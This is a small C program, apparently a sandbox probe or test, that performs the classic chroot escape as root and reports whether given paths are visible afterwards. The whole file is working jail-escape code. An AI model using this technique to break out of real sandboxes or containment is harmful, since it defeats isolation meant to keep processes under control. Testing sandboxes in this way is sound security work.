// The classic chroot escape, run as root inside a local machine: chroot into a
// subdirectory while the working directory stays outside it, climb with "..",
// then chroot(".") there. Then reports, for each argument, whether that path is
// visible from where it ended up ("VISIBLE path" or "hidden path").
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
  mkdir("dm-escape", 0700);
  if (chroot("dm-escape") != 0) {
    perror("chroot");
    return 2;
  }
  for (int i = 0; i < 256; ++i) {
    if (chdir("..") != 0) {
      perror("chdir");
      return 2;
    }
  }
  if (chroot(".") != 0) {
    perror("chroot .");
    return 2;
  }
  for (int i = 1; i < argc; ++i) {
    printf("%s %s\n", access(argv[i], F_OK) == 0 ? "VISIBLE" : "hidden", argv[i]);
  }
  return 0;
}
